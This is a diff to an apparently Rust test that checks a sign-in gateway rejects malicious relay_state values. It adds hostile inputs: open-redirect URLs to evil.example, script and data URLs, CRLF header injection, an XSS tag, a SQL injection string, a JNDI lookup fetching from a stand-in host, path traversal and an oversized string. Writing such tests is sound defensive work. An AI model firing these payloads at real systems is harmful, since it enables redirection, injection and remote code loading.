@@ -53,12 +53,25 @@ async fn ten_megabytes_are_refused_and_the_next_sign_in_works() {
 async fn a_relay_state_with_an_address_leads_nowhere() {
     let gateway = Gateway::start().await;
     let world = World::of(&gateway);
+    let long = "evil".repeat(20_000);
     for relay_state in [
         "https://evil.example/",
         "//evil.example",
-        "javascript:alert(1)",
+        "/\\evil.example",
+        "https:evil.example",
+        "javascript:alert('evil')",
+        "data:text/html,evil",
+        "%68ttps://evil.example/",
+        "evil\r\nLocation: https://evil.example/",
+        "evil\0",
+        "\"><script>evil</script>",
+        "' OR 'evil'='evil",
+        "${jndi:ldap://evil.example/}",
+        "../../evil",
         "",
         "trc_00000000000000000000000000",
+        "trc_evil",
+        &long,
     ] {
         let mut agent = UserAgent::new();
         let underway = world.begin(&mut agent).await;
